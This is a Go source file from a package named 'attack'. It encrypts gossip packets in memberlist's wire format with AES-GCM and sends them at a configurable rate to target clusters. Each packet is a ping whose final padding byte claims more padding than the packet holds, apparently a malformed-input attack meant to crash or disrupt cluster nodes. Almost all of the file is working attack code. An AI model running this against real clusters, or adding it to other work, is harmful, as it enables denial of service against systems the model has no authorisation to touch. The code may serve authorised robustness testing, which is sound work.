package attack

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"fmt"
	"net"
)

// version0 sends packets of encryption version 0. The last byte of such a packet says how much
// of the packet is padding: here, more than there is.
func version0(ctx context.Context, o Order) (string, error) {
	var padding, rate int
	if err := o.numbers(map[string]*int{"padding": &padding, "rate": &rate}); err != nil {
		return "", err
	}
	c, err := net.ListenPacket("udp", ":0")
	if err != nil {
		return "", err
	}
	defer c.Close()
	sent, err := o.sendGossip(ctx, rate, func(t Target) ([]byte, error) {
		key, err := t.key()
		if err != nil {
			return nil, err
		}
		plain := append([]byte{0, 0x82, 0xaa}, "SourceNode\xa0\xa5SeqNo"...) // a ping
		return t.seal(key, 0, append(plain, 0xcc, byte(padding)))
	}, c)
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("sent %d packets", sent), nil
}

// seal encrypts a packet for the cluster and lays it out as memberlist does: label, version,
// nonce, ciphertext. The cluster's name is the additional data.
func (t Target) seal(key []byte, version byte, plain []byte) ([]byte, error) {
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	gcm, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	nonce := make([]byte, gcm.NonceSize())
	if _, err := rand.Read(nonce); err != nil {
		return nil, err
	}
	packet := append(append(t.label(), version), nonce...)
	return gcm.Seal(packet, nonce, plain, []byte(t.Cluster)), nil
}
